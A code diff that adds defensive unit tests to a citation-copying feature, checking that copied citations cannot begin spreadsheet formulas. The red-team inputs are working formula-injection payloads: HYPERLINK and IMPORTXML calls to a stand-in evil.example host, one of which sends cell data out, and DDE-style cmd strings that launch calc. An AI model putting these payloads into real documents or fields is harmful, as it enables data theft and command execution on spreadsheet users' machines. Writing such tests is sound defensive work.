@@ -96,3 +96,36 @@ describe('citePassage', () => {
     );
   });
 });
+
+// Red team 37: a copied citation pasted into a spreadsheet is one cell per line, and a line the page made a formula of
+// ran (the title `=HYPERLINK(…)` opens APA's reference when no author is named). Inputs as the red team wrote them.
+describe('a copied citation starts no spreadsheet formula', () => {
+  const formulaLines = (text: string): string[] => text.split('\n').filter((l) => /^[=+\-@\t\r＝＋－＠]/u.test(l));
+  const hostile: Record<string, Partial<CitedPassage>> = {
+    'a formula title': { title: '=HYPERLINK("https://evil.example/x","Read the source")', byline: null },
+    'a plus title': { title: '+cmd|" /C calc"!A0', byline: null },
+    'an at title': { title: '@SUM(1+1)*cmd|" /C calc"!A0', byline: null },
+    'a full-width equals title': { title: '＝HYPERLINK("https://evil.example")', byline: null },
+    'a formula word in the byline': { byline: 'By Jane Doe =HYPERLINK("https://evil.example")' },
+    'a formula outlet': { outlet: '=IMPORTXML("https://evil.example/?"&A1,"//a")', byline: null },
+  };
+  for (const [name, over] of Object.entries(hostile))
+    it.each(['markdown', 'plain', 'apa', 'chicago'] as const)(`${name}, %s`, (format) => {
+      const text = citePassage({ ...sample, ...over }, format);
+      expect(formulaLines(text)).toEqual([]);
+      // The page's words are kept, shown as text: the reader sees what the page wrote.
+      if (format === 'apa' && over.title) expect(text).toContain(over.title);
+    });
+
+  it('a byline word that starts a formula names no author, the name beside it still does', () => {
+    expect(authorsOf('By Jane Doe =HYPERLINK("https://evil.example")')).toEqual([]);
+    expect(authorsOf('By Jane Doe and =HYPERLINK("https://evil.example")')).toEqual(['Jane Doe']);
+  });
+
+  it('an honest citation is copied unchanged', () => {
+    expect(citePassage(sample, 'apa')).not.toContain("'");
+    expect(citePassage({ ...sample, title: "Ministers' pay - a guide" }, 'plain')).toContain(
+      "Ministers' pay - a guide",
+    );
+  });
+});
